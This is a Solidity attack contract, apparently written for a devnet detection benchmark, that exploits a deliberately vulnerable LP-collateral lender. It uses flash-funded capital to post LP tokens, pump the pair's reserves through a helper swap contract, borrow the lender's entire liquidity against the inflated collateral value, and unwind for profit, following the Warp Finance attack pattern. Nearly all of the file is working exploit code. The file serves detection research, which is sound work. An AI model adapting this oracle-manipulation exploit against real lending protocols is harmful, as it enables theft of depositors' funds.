// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

// =====================================================================================
//  ATTACK CONTRACT FOR VIGIL'S SCENARIO LIBRARY ONLY (devnet detection benchmark). It
//  exploits the deliberately vulnerable LpCollateralLender. Do not point it at anything else.
// =====================================================================================

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
import {IUniswapV2Pair} from "../../devnet/interfaces/IUniswapV2Pair.sol";
import {V2Math} from "../../devnet/libraries/V2Math.sol";
import {FlashFunded} from "../common/FlashFunded.sol";
import {LpCollateralLender} from "../victims/LpCollateralLender.sol";
import {SwapPump} from "./SwapPump.sol";

/// @title LpCollateralAttacker
/// @notice Pattern 4 (Warp Finance). Optionally in a first transaction (`prepare`, own capital),
/// or else inside the funded transaction: turn `seedAmount` of the stable into LP tokens of the
/// lender's pair and post them. Then, with capital in the stable:
///   1. deploy a fresh SwapPump and have it buy the pair's other token with `pumpAmount` (the
///      pair's stable reserve — and so the lender's LP price — jumps);
///   2. borrow the lender's whole liquidity (or what the inflated LP value allows);
///   3. have the pump sell everything back, proceeds to this contract.
/// The LP collateral is abandoned. Capital needed: pumpAmount (+ seedAmount when not prepared).
/// Flash swaps must come from another pair than the lender's.
contract LpCollateralAttacker is FlashFunded {
    using SafeERC20 for IERC20;

    /// @param lender Target lender.
    /// @param seedAmount Stable turned into posted LP in this transaction (0 if `prepare` did it).
    /// @param pumpAmount Stable swapped into the pair by the pump.
    struct Params {
        LpCollateralLender lender;
        uint256 seedAmount;
        uint256 pumpAmount;
    }

    /// @notice First-transaction variant: builds and posts the LP position from this contract's
    /// own balance of the lender's debt token.
    /// @return lp LP tokens posted.
    function prepare(LpCollateralLender lender, uint256 seedAmount) external onlyOwner returns (uint256 lp) {
        lp = _postLp(lender, seedAmount);
    }

    /// @notice Runs the exploit with `funding` (token = the lender's debt token).
    /// @return profit Debt tokens gained (sent to the owner).
    function execute(Funding calldata funding, Params calldata p) external onlyOwner returns (uint256 profit) {
        profit = _fund(funding, abi.encode(p));
        _sweep(funding.token);
    }

    function _exploit(uint256, bytes memory data) internal override {
        Params memory p = abi.decode(data, (Params));
        if (p.seedAmount != 0) _postLp(p.lender, p.seedAmount);

        IUniswapV2Pair pair = p.lender.pair();
        IERC20 debt = p.lender.debtToken();
        IERC20 other = IERC20(V2Math.otherToken(pair, address(debt)));

        SwapPump pump = new SwapPump();
        debt.safeTransfer(address(pump), p.pumpAmount);
        pump.swapV2(pair, address(debt), address(pump)); // the pump holds the other token

        uint256 amount = Math.min(p.lender.liquidity(), p.lender.maxBorrow(address(this)));
        p.lender.borrow(amount);

        // Unwind, including other-token dust left over from building the LP.
        uint256 dust = other.balanceOf(address(this));
        if (dust != 0) other.safeTransfer(address(pump), dust);
        pump.swapV2(pair, address(other), address(this));
    }

    /// @dev Swaps half of `seedAmount` for the other token, adds liquidity with as much of the
    /// remaining half as the new reserve ratio takes, and posts the LP to the lender.
    function _postLp(LpCollateralLender lender, uint256 seedAmount) internal returns (uint256 lp) {
        IUniswapV2Pair pair = lender.pair();
        address debt = address(lender.debtToken());
        address other = V2Math.otherToken(pair, debt);

        uint256 half = seedAmount / 2;
        uint256 bought = V2Math.swapExactIn(pair, debt, half, address(this));
        (uint256 reserveDebt, uint256 reserveOther) = V2Math.reservesFor(pair, debt);
        uint256 debtIn = seedAmount - half;
        uint256 otherIn = Math.min(bought, Math.mulDiv(debtIn, reserveOther, reserveDebt));
        debtIn = Math.mulDiv(otherIn, reserveDebt, reserveOther);

        IERC20(debt).safeTransfer(address(pair), debtIn);
        IERC20(other).safeTransfer(address(pair), otherIn);
        lp = pair.mint(address(this));
        IERC20(address(pair)).forceApprove(address(lender), lp);
        lender.depositCollateral(lp);
    }
}
